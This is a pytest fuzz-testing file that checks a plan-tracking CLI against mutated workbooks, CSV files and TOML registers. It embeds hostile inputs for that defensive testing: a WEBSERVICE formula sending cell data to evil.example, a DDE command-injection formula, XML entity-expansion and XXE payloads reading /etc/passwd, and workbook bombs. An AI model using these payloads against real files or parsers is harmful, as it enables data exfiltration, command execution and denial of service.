"""The fuzz campaign (`pytest -m stress`): a valid workbook, a CSV and a register, each
mutated a thousand times, and every mutant put through the commands a user would run.

Mutations are of bytes (a damaged file), of cells (what a person types in Excel), of log
entries and of keys (a register edited by hand). Each mutant goes through `import` (the
files) or is the register itself, then `status`, `--as-of`, `report` and `check`. The
laws, for every mutant and every command:

- no traceback: the exit code is 0, 1 or 2, and an exit 2 ends in one `error:` line;
- no hang: each command is stopped after `HANG_SECONDS` and the mutant reported;
- nothing written by a command that failed, nor by one that only reads;
- bounded memory: in process, the worker's peak stays under `MEMORY`; and a fixed hundred
  mutants (bombs among them, built here from repeated compressed blocks, none committed)
  run as processes limited to `MEMORY` of address space.

Every seed is fixed, so a failure names a mutant that can be made again.
"""

from __future__ import annotations

import csv
import io
import random
import resource
import signal
import subprocess
import sys
import tomllib
import traceback
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from types import FrameType
from typing import Any

import pytest
import tomli_w
from openpyxl import load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError
from typer.testing import CliRunner, Result

from improvetrack.cli import app
from improvetrack.figures.progress import compute
from improvetrack.files.store import read
from improvetrack.render import formats
from tests.conftest import SAMPLE, TODAY
from tests.test_hostile import HOSTILE
from tests.tracker import tracker

pytestmark = pytest.mark.stress

MUTANTS = 1000
HANG_SECONDS = 30
MEMORY = 1 << 30  # 1 GB
SEED = 20261207
AS_OF = date.fromisoformat(TODAY)

# What a person (or an attacker) puts in a cell.
VALUES: list[Any] = [
    *HOSTILE,
    "",
    " ",
    None,
    0,
    -1,
    10**18,
    3.5,
    1e308,
    True,
    '=WEBSERVICE("https://evil.example/"&A1)',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example","click")',
    "=1/0",
    "=A1",
    "=COUNTA(A:A)",
    "#REF!",
    "#N/A",
    "x" * 32767,
    "31/01/2027",
    "2027-02-30",
    "00/00/0000",
    "March 2027",
    "Ongoing",
    "TBC",
    "Q3 2026/27",
    datetime(1900, 1, 1),
    datetime(9999, 12, 31),
    date(2026, 11, 27),
    "Complete",
    "Blocked",
    "on hold",
    "done",
    "B",
    "G",
    "A",
    "R",
    "purple",
    "ASM-1",
    "ASM-999999",
    "1.1",
    "Theme 1: Children who need help and protection",
    "Total actions",
    "Key",
    "Updated:",
    "Ref",
    "Action",
    "Owner",
    "Due",
]


class Hung(Exception):
    """A command ran past HANG_SECONDS."""


@pytest.fixture
def watchdog() -> Iterator[None]:
    def stop(signum: int, frame: FrameType | None) -> None:
        raise Hung(f"no answer in {HANG_SECONDS} s")

    previous = signal.signal(signal.SIGALRM, stop)
    yield
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, previous)


class Campaign:
    """Runs commands on mutants in process and checks the laws on each."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.register = folder / "improvetrack.toml"
        self.runner = CliRunner()
        self.outcomes: dict[int, int] = {0: 0, 1: 0, 2: 0}

    def run(self, what: str, *args: str, writes: bool = False) -> Result:
        """One command against the campaign's register; `what` names the mutant."""
        before = self.register.read_bytes() if self.register.exists() else None
        signal.setitimer(signal.ITIMER_REAL, HANG_SECONDS)
        try:
            result = self.runner.invoke(app, ["--register", str(self.register), *args])
        finally:
            signal.setitimer(signal.ITIMER_REAL, 0)
        shown = f"{what}: improvetrack {' '.join(args)}"
        error = result.exception
        if error is not None and not isinstance(error, SystemExit):
            trace = "".join(traceback.format_exception(error))
            pytest.fail(f"{shown}: {type(error).__name__}\n{trace}")
        assert result.exit_code in (0, 1, 2), f"{shown}: exit {result.exit_code}"
        assert "Traceback" not in result.output, f"{shown}:\n{result.output}"
        if result.exit_code == 2:
            last = result.stderr.rstrip("\n").splitlines()[-1:]
            assert last and last[0].startswith("error: "), f"{shown}:\n{result.stderr}"
        if not writes or result.exit_code == 2:
            after = self.register.read_bytes() if self.register.exists() else None
            assert after == before, f"{shown}: exit {result.exit_code} but the register changed"
        self.outcomes[result.exit_code] += 1
        return result

    def read_commands(self, what: str, rng: random.Random) -> None:
        """The commands that only read, on whatever register there is now."""
        self.run(what, "status")
        self.run(what, "--as-of", _earlier(rng), "status")
        self.run(what, "check")
        fmt = rng.choice(["json", "markdown", "text", "html", "csv"])
        self.run(what, "report", "--format", fmt, "--output", str(self.folder / f"paper.{fmt}"))
        if rng.random() < 0.3:
            self.run(what, "--as-of", _earlier(rng), "report", "--format", "json")


def _earlier(rng: random.Random) -> str:
    return (AS_OF - timedelta(days=rng.choice([1, 30, 90, 200, 400, 2000]))).isoformat()


def _peak_memory_is_bounded() -> None:
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # kB on Linux
    assert peak < MEMORY, f"peak memory {peak >> 20} MB"


# --- registers -------------------------------------------------------------------------------

_LOG_KEYS = ("at", "by", "text", "field", "old", "new", "user")
_FIELDS = ("status", "due", "owner", "area", "rag", "title", "after", "progress", "id", "nonsense")


def _any_value(rng: random.Random) -> Any:
    kinds: list[Callable[[], Any]] = [
        lambda: rng.choice([value for value in VALUES if value is not None]),
        lambda: rng.randint(-(2**63), 2**63 - 1),
        lambda: rng.random() * 10 ** rng.randint(-5, 300),
        lambda: date(rng.randint(1, 9999), rng.randint(1, 12), rng.randint(1, 28)),
        lambda: datetime(rng.randint(1, 9999), rng.randint(1, 12), 1, rng.randint(0, 23)),
        lambda: [rng.choice(["ASM-1", "ASM-2", "X", 3, "ASM-1"]) for _ in range(rng.randint(0, 4))],
        lambda: {"nested": rng.choice(["x", 1, True])},
        lambda: rng.choice(["not-started", "in-progress", "blocked", "done", "awaiting-sign-off"]),
        lambda: rng.choice(["red", "amber", "green", "blue", "RED", "purple"]),
    ]
    return rng.choice(kinds)()


def _paths(value: Any, trail: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every key path in a TOML document, tables and arrays of tables included."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*trail, key)
            yield from _paths(item, (*trail, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            if isinstance(item, dict):
                yield from _paths(item, (*trail, index))


def _parent(document: Any, path: tuple[Any, ...]) -> Any:
    for step in path[:-1]:
        document = document[step]
    return document


def _mutate_document(document: dict[str, Any], rng: random.Random) -> None:
    paths = list(_paths(document))
    logs = [path for path in paths if path[-1] == "log"]
    for _ in range(rng.randint(1, 4)):
        kind = rng.random()
        if kind < 0.35 and logs:  # a log entry: a key lost, a value of the wrong type
            path = rng.choice(logs)
            entries = _parent(document, path)[path[-1]]
            if not isinstance(entries, list) or not entries:
                continue
            entry = rng.choice(entries)
            if not isinstance(entry, dict):
                continue
            key = rng.choice(_LOG_KEYS)
            action = rng.random()
            if action < 0.4:
                entry.pop(key, None)
            elif action < 0.7 and key in ("field",):
                entry[key] = rng.choice(_FIELDS)
            else:
                entry[key] = _any_value(rng)
        elif kind < 0.55:  # a key deleted
            path = rng.choice(paths)
            parent = _parent(document, path)
            if isinstance(parent, dict):
                parent.pop(path[-1], None)
        elif kind < 0.8:  # a value replaced
            path = rng.choice(paths)
            parent = _parent(document, path)
            if isinstance(parent, dict) and path[-1] in parent:
                parent[path[-1]] = _any_value(rng)
        else:  # a key added or renamed
            path = rng.choice(paths)
            parent = _parent(document, path)
            if not isinstance(parent, dict) or path[-1] not in parent:
                continue
            name = rng.choice(["id", "ASM-1", "after", "due", "x-y", "", "ü", "status", "log"])
            if rng.random() < 0.5:
                parent[name] = parent.pop(path[-1])
            else:
                parent[name] = _any_value(rng)
        paths = list(_paths(document))
        logs = [path for path in paths if path[-1] == "log"]


def register_mutants(rng: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    original = SAMPLE.read_bytes()
    document = tomllib.loads(original.decode("utf-8"))
    for number in range(count):
        if number % 4 == 0:  # bytes
            data = bytearray(original)
            for _ in range(rng.randint(1, 6)):
                where = rng.randrange(len(data))
                if rng.random() < 0.5:
                    data[where] = rng.randrange(256)
                else:
                    data[where:where] = rng.choice([b'"', b"\n", b"[", b"=", b"\x00", b"\\u"])
            yield f"register {number} (bytes)", bytes(data)
            continue
        mutant = tomllib.loads(original.decode("utf-8")) if number % 2 else _copy(document)
        _mutate_document(mutant, rng)
        try:
            yield f"register {number} (keys)", tomli_w.dumps(mutant).encode("utf-8")
        except (TypeError, ValueError):
            continue  # tomli-w cannot write that value: not a file a person could have


def _copy(document: Any) -> Any:
    return tomllib.loads(tomli_w.dumps(document))


def test_a_thousand_registers_edited_by_hand(tmp_path: Path, watchdog: None) -> None:
    campaign = Campaign(tmp_path)
    rng = random.Random(SEED)
    ids = [f"{prefix}-{n}" for prefix in ("ASM", "TRN", "EDU", "X") for n in (1, 2, 9)]
    tried = 0
    for what, data in register_mutants(rng, MUTANTS):
        campaign.register.write_bytes(data)
        tried += 1
        campaign.read_commands(what, rng)
        campaign.run(what, "show", rng.choice(ids))
        campaign.run(what, "--as-of", _earlier(rng), "list")
    assert tried > 0.9 * MUTANTS
    # Most mutants are still registers the tool reads; the rest are refused: both were tried.
    assert campaign.outcomes[0] > 1000 and campaign.outcomes[2] > 1000, campaign.outcomes
    _peak_memory_is_bounded()


# --- workbooks and CSV files -----------------------------------------------------------------


def _export(fmt: str) -> bytes:
    return formats.export(compute(read(SAMPLE).register, AS_OF), fmt)


def _mutate_cells(book: Any, rng: random.Random) -> None:
    sheet = rng.choice(book.worksheets)
    rows, columns = max(sheet.max_row, 2), max(sheet.max_column, 2)
    for _ in range(rng.randint(1, 6)):
        kind = rng.random()
        if kind < 0.6:
            cell = sheet.cell(rng.randint(1, rows + 2), rng.randint(1, columns + 1))
            if type(cell).__name__ == "MergedCell":
                continue
            try:
                cell.value = rng.choice(VALUES)
            except IllegalCharacterError:
                continue  # Excel cannot hold it either
        elif kind < 0.7:
            sheet.delete_rows(rng.randint(1, rows), rng.randint(1, 3))
        elif kind < 0.8:
            sheet.insert_rows(rng.randint(1, rows), rng.randint(1, 3))
        elif kind < 0.85:
            top, left = rng.randint(1, rows), rng.randint(1, columns)
            try:
                sheet.merge_cells(
                    start_row=top,
                    start_column=left,
                    end_row=top + rng.randint(0, 3),
                    end_column=left + rng.randint(0, 3),
                )
            except ValueError:
                continue
        elif kind < 0.9:
            sheet.sheet_state = rng.choice(["hidden", "visible"])
        elif kind < 0.95:
            extra = book.create_sheet(rng.choice(["Key", "Notes", "Quarters", "Plan 2", "x" * 31]))
            row = [rng.choice(VALUES) for _ in range(4)]
            try:
                extra.append(row)
            except IllegalCharacterError:
                continue  # Excel cannot hold it either
        else:
            sheet.delete_cols(rng.randint(1, columns), 1)


def _save(book: Any) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _damaged(original: bytes, rng: random.Random) -> bytes:
    data = bytearray(original)
    if rng.random() < 0.3:
        return bytes(data[: rng.randrange(len(data))])
    for _ in range(rng.randint(1, 8)):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return bytes(data)


def _reparted(original: bytes, rng: random.Random) -> bytes:
    """A part of the workbook rewritten: XML entities, a DOCTYPE, a part cut short."""
    source = zipfile.ZipFile(io.BytesIO(original))
    names = source.namelist()
    victim = rng.choice([name for name in names if name.endswith(".xml")])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in names:
            data = source.read(name)
            if name == victim:
                data = rng.choice(
                    [
                        data[: len(data) // 2],
                        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>',
                        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
                        data.replace(b"<", b"<<", 1),
                        b"",
                    ]
                )
            target.writestr(name, data)
    return out.getvalue()


def workbook_mutants(rng: random.Random, count: int, folder: Path) -> Iterator[tuple[str, bytes]]:
    bases = [_export("xlsx"), tracker(folder / "council.xlsx").read_bytes()]
    for number in range(count):
        base = bases[number % 2]
        kind = rng.random()
        if kind < 0.25:
            yield f"workbook {number} (bytes)", _damaged(base, rng)
        elif kind < 0.35:
            yield f"workbook {number} (parts)", _reparted(base, rng)
        else:
            book = load_workbook(io.BytesIO(base))
            _mutate_cells(book, rng)
            try:
                data = _save(book)
            except (AttributeError, TypeError, ValueError):
                continue  # openpyxl cannot write what the mutation made: Excel would not either
            yield f"workbook {number} (cells)", data


def csv_mutants(rng: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    original = _export("csv")
    rows = list(csv.reader(io.StringIO(original.decode("utf-8-sig"))))
    for number in range(count):
        if number % 3 == 0:  # bytes
            data = bytearray(original)
            for _ in range(rng.randint(1, 6)):
                where = rng.randrange(len(data))
                insert = rng.choice([b'"', b",", b"\n", b"\r", b"\x00", b";", b"\xff", b"=", b""])
                data[where : where + rng.randint(0, 3)] = insert
            yield f"csv {number} (bytes)", bytes(data)
            continue
        mutant = [list(row) for row in rows]
        for _ in range(rng.randint(1, 6)):
            kind = rng.random()
            row = rng.choice(mutant) if mutant else []
            if kind < 0.6 and row:
                row[rng.randrange(len(row))] = str(rng.choice(VALUES))
            elif kind < 0.75:
                mutant.insert(rng.randrange(len(mutant) + 1), list(rng.choice(mutant or [[""]])))
            elif kind < 0.85 and len(mutant) > 1:
                del mutant[rng.randrange(len(mutant))]
            elif row:
                row.append(str(rng.choice(VALUES)))
        text = io.StringIO()
        csv.writer(text).writerows(mutant)
        yield f"csv {number} (cells)", text.getvalue().encode("utf-8")


def _import_each(campaign: Campaign, mutants: Iterator[tuple[str, bytes]], suffix: str) -> int:
    rng = random.Random(SEED)  # the choices of how to import: the mutants have their own
    sheet = campaign.folder / f"sent{suffix}"
    imported = 0
    for what, data in mutants:
        sheet.write_bytes(data)
        # Into an empty plan, or over the sample with --update: the two paths of an import.
        fresh = rng.random() < 0.5
        campaign.register.write_bytes(
            b'schema = 1\n\n[plan]\ntitle = "Plan"\n' if fresh else SAMPLE.read_bytes()
        )
        args = ["import", str(sheet), *([] if fresh else ["--update"])]
        if rng.random() < 0.1:
            args.append("--skip-invalid")
        result = campaign.run(what, *args, writes=True)
        if result.exit_code != 2:
            imported += 1
            if rng.random() < 0.25:  # what the import made is a register every command reads
                campaign.read_commands(what, rng)
    return imported


def test_a_thousand_workbooks_as_people_and_accidents_make_them(
    tmp_path: Path, watchdog: None
) -> None:
    campaign = Campaign(tmp_path)
    rng = random.Random(SEED + 1)
    imported = _import_each(campaign, workbook_mutants(rng, MUTANTS, tmp_path), ".xlsx")
    assert 100 < imported < MUTANTS, imported  # both paths were tried
    _peak_memory_is_bounded()


def test_a_thousand_csv_files_as_people_and_accidents_make_them(
    tmp_path: Path, watchdog: None
) -> None:
    campaign = Campaign(tmp_path)
    rng = random.Random(SEED + 2)
    imported = _import_each(campaign, csv_mutants(rng, MUTANTS), ".csv")
    assert 100 < imported < MUTANTS, imported
    _peak_memory_is_bounded()


# --- a hundred as processes, under a memory limit ----------------------------------------------

_LIMITED = """\
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))
from improvetrack.cli import main
sys.argv = ["improvetrack", *sys.argv[1:]]
main()
"""


def _bombs(folder: Path) -> list[tuple[str, bytes]]:
    """Workbooks built to hurt, from repeated compressed blocks: none is committed."""
    from tests.test_sent_files import SHEET_START, sheet_xml, workbook

    block = b"<!--" + b" " * (1 << 20) + b"-->"
    padded = [SHEET_START.encode(), b"<sheetData>", *[block] * 300, b"</sheetData></worksheet>"]
    merged = sheet_xml("", '<mergeCells><mergeCell ref="G1:XFD1048576"/></mergeCells>')
    many = "".join(f'<mergeCell ref="A{n}:Z{n}"/>' for n in range(3, 3003))
    return [
        ("bomb (300 MB of padding)", workbook(folder / "b1.xlsx", padded).read_bytes()),
        ("bomb (merged over the grid)", workbook(folder / "b2.xlsx", merged).read_bytes()),
        (
            "bomb (3,000 merged ranges)",
            workbook(
                folder / "b3.xlsx", sheet_xml("", f"<mergeCells>{many}</mergeCells>")
            ).read_bytes(),
        ),
        ("bomb (101 sheets)", workbook(folder / "b4.xlsx", sheet_xml(""), sheets=101).read_bytes()),
    ]


def test_a_hundred_mutants_as_processes_under_a_memory_limit(tmp_path: Path) -> None:
    rng = random.Random(SEED + 3)
    mutants: list[tuple[str, str, bytes]] = [
        ("xlsx", what, data) for what, data in _bombs(tmp_path)
    ]
    mutants += [("xlsx", what, data) for what, data in workbook_mutants(rng, 48, tmp_path)]
    mutants += [("csv", what, data) for what, data in csv_mutants(rng, 28)]
    mutants += [("toml", what, data) for what, data in register_mutants(rng, 28)]
    mutants = mutants[:100]
    script = tmp_path / "limited.py"
    script.write_text(_LIMITED.format(limit=MEMORY), encoding="utf-8")
    register = tmp_path / "improvetrack.toml"
    for kind, what, data in mutants:
        if kind == "toml":
            register.write_bytes(data)
            args = ["status"]
        else:
            register.write_bytes(SAMPLE.read_bytes())
            sent = tmp_path / f"sent.{kind}"
            sent.write_bytes(data)
            args = ["import", str(sent), "--update"]
        before = register.read_bytes()
        done = subprocess.run(
            [sys.executable, str(script), "--register", str(register), *args],
            capture_output=True,
            text=True,
            timeout=120,
            env={"IMPROVETRACK_TODAY": TODAY, "NO_COLOR": "1", "PATH": "/usr/bin:/bin"},
        )
        shown = f"{what}: improvetrack {' '.join(args)}"
        assert done.returncode in (0, 1, 2), f"{shown}: exit {done.returncode}\n{done.stderr}"
        assert "Traceback" not in done.stderr, f"{shown}:\n{done.stderr}"
        if done.returncode == 2 or kind == "toml":
            assert register.read_bytes() == before, f"{shown}: the register changed"
    assert len(mutants) == 100
